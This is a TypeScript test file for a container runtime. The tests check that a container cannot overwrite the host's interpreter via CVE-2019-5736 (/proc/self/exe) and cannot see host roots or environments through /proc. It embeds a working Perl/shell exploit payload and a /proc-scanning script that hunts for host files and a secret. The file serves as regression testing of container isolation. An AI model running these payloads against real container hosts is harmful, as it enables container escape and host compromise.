import { spawnSync } from 'node:child_process'
import { copyFileSync, mkdirSync, readFileSync, realpathSync, writeFileSync } from 'node:fs'
import { expect, test } from '@jest/globals'
import { facts, start, type TestBox, until, type Who, type World, world } from '../harness/index.ts'
import { tree, without } from './attack.ts'

// The overwritten host program (CVE-2019-5736). The interpreter that may be overwritten is a copy, first in PATH.
export function interpreters(who: Who): void {
  const here = world(who)

  /** Runs as the host's interpreter, keeps a handle on it, and writes as soon as nobody runs it any more. */
  const attack = `#!/proc/self/exe -Iperl
open my $exe, "<", "/proc/self/exe" or die "exe: $!"; fcntl $exe, 2, 0;
my $try = 'for i in $(seq 200); do if echo owned 2>/vol/why >>/proc/self/fd/' . fileno($exe) . '; then echo overwritten >/vol/result; exit; fi;
  case $(cat /vol/why) in *"busy"*) sleep 0.02 ;; *) mv /vol/why /vol/result; exit ;; esac; done';
fork and exit 0;
exec "/bin/sh", "-c", $try;
`

  function place() {
    const directory = `${here.directory}/${Math.random().toString(36).slice(2)}`
    mkdirSync(`${directory}/bin`, { recursive: true })
    mkdirSync(`${directory}/vol`)
    copyFileSync('/usr/bin/perl', `${directory}/bin/perl`)
    writeFileSync(`${directory}/vol/attack`, attack, { mode: 0o755 })
    const result = () =>
      until(() => {
        try {
          return readFileSync(`${directory}/vol/result`, 'utf8')
        } catch {
          return null
        }
      }, 'the attack has a result')
    here.own(directory)
    const env = { ...here.env, PATH: `${directory}/bin:${process.env.PATH}` }
    return { directory, result, env, before: tree(`${directory}/bin`), after: () => tree(`${directory}/bin`) }
  }

  /** The copies are on a mount that may not be one of the host's tools, as where /tmp is in memory. */
  const { stdout: mount } = spawnSync('findmnt', ['-no', 'TARGET', '--target', here.directory], {
    encoding: 'utf8',
  })
  const host = { ...facts(who), toolMounts: [...new Set([...facts(who).toolMounts, mount.trim()])] }
  const view = /mount -o remount,bind,ro \S+/

  async function byUp(weaken: (box: TestBox) => void) {
    const at = place()
    // PID 1 must last: with it the box's other processes would go.
    const script = `/vol/attack & while [ ! -e /vol/result ]; do sleep 0.02; done`
    writeFileSync(`${at.directory}/vol/first`, attack.replace('fork and exit 0;\n', ''), { mode: 0o755 })
    const box = here.box(
      {
        rootfs: 'host',
        volumes: [`${at.directory}/vol:/vol`],
        command: ['/vol/first', script],
      },
      host,
    )
    weaken(box)
    await box.up({ env: at.env })
    const result = await at.result()
    await box.down('-t', '0')
    return { ...at, result }
  }

  type Begin = (box: TestBox, env: World['env']) => Promise<unknown>

  async function byEnter(
    weaken: (box: TestBox) => void,
    begin: Begin = (box, env) => box.up({ detach: true, env }),
  ) {
    const at = place()
    const box = here.box(
      { rootfs: 'host', volumes: [`${at.directory}/vol:/vol`], command: ['sleep', '100'] },
      host,
    )
    weaken(box)
    await begin(box, at.env)
    expect(await box.enter(['/vol/attack'], { env: at.env })).toMatchObject({ status: 0, stderr: '' })
    const result = await at.result()
    await box.down('-t', '0')
    return { ...at, result }
  }

  /** The monitor keeps the view; without it enter makes one of its own, and never takes the root of who adopted PID 1. */
  async function byEnterAlone(weaken: (box: TestBox) => void) {
    const prctl = process.arch === 'arm64' ? 167 : 157
    const adopt = `syscall ${prctl}, 36, 1, 0, 0, 0; system @ARGV; print "up\\n"; sleep 1000`
    const stop: (() => void)[] = []
    const ran = await byEnter(weaken, async (box, env) => {
      const adopter = start(
        ['env', ...here.by, '/usr/bin/perl', '-e', `$| = 1; ${adopt}`, 'sh', box.program, 'up', '-d'],
        {
          env,
        },
      )
      stop.push(() => adopter.kill('SIGKILL'))
      await until(() => adopter.said().stdout.endsWith('up\n'), 'it is up')
      const [first, , , monitor] = readFileSync(`${box.box.paths.run}/init`, 'utf8').trim().split(' ')
      process.kill(Number(monitor), 'SIGKILL')
      const parent = () => readFileSync(`/proc/${first}/stat`, 'utf8').replace(/.*\)/, '').split(' ')[2]
      await until(() => parent() === `${adopter.child.pid}`, 'PID 1 is adopted')
    })
    for (const end of stop) end()
    return ran
  }

  for (const [verb, run] of [
    ['up', byUp],
    ['enter', byEnter],
    ['enter after the death of the monitor', byEnterAlone],
  ] as const) {
    test(`${verb}: an entry point #!/proc/self/exe cannot write the host's interpreter`, async () => {
      const { before, after, result } = await run(() => {})
      expect(result).toMatch(/Read-only file system/)
      expect(after()).toEqual(before)
    })

    test(`${verb}: without the read-only view it is overwritten`, async () => {
      const { before, after, result } = await run((box) => without(box, view, ':'))
      expect(result).toBe('overwritten\n')
      expect(after()).not.toEqual(before)
    })
  }

  test("the root of who adopted PID 1 would be the host's, to write", async () => {
    const weaken = (box: TestBox) => without(box, '[ "$parent" = "$keeper" ]', 'keeper=$parent')
    expect((await byEnterAlone(weaken)).result).toBe('overwritten\n')
  })

  test('no host program is left in the pid namespace of a box', async () => {
    const programs = async (weaken: (box: TestBox) => void = () => {}) => {
      const box = here.box({ rootfs: 'host', command: ['sleep', '100'] })
      weaken(box)
      await box.up({ detach: true })
      // Of one that cannot be dumped the program is not told: `hidden`, unless it has gone meanwhile.
      const { stdout } = await box.enter([
        'sh',
        '-c',
        'for p in /proc/[0-9]*; do readlink $p/exe || [ ! -e $p ] || echo hidden; done',
      ])
      await box.down('-t', '0')
      return new Set(stdout.trim().split('\n'))
    }
    const own = ['dash', 'sleep'].map((name) => realpathSync(`/bin/${name}`))
    expect(await programs()).toEqual(new Set(own))
    // nsenter puts the launcher into the pid namespace, not its child alone: it waits there, hidden; or not, if it may be dumped.
    const inside = (box: TestBox) => without(box, 'nsenter --target', 'nsenter --pid --target')
    expect(await programs(inside)).toEqual(new Set([...own, 'hidden']))
    const shown = await programs((box) => {
      inside(box)
      without(box, 'must("prctl", 4, 0, 0, 0, 0);')
    })
    expect([...shown]).toContain(realpathSync('/usr/bin/perl'))
  })

  test('with CAP_SYS_PTRACE nothing of the host is seen in those that enter', async () => {
    const outside = here.file('outside', 'outside')
    const hunt = `$| = 1; while (1) { opendir my $dir, '/proc'; for (grep { /^\\d+$/ && $_ != 1 } readdir $dir) {
    print "ROOT\\n" if open my $file, '<', "/proc/$_/root${outside}";
    if (open my $file, '<', "/proc/$_/environ") { local $/; my $text = <$file> // ''; print "ENV\\n" if $text =~ /CALLER_SECRET/ } } }`
    for (const weak of [false, true]) {
      const box = here.box({
        rootfs: 'host',
        tmpfs: ['/tmp'],
        cap_add: ['SYS_PTRACE'],
        command: ['perl', '-e', hunt],
      })
      if (weak) {
        // nsenter forks into the pid namespace, and what it starts still has the root of the host.
        without(box, 'nsenter --target', 'nsenter --pid --target')
        without(box, '  forget_environment\n')
      }
      await box.up({ detach: true })
      for (let i = 0; i < 12; i++)
        expect((await box.enter(['true'], { env: { ...here.env, CALLER_SECRET: '1' } })).status).toBe(0)
      const { stdout } = await box.logs()
      await box.down('-t', '0')
      if (weak) expect(stdout).toMatch(/ROOT|ENV/)
      else expect(stdout).toBe('')
    }
  })
}
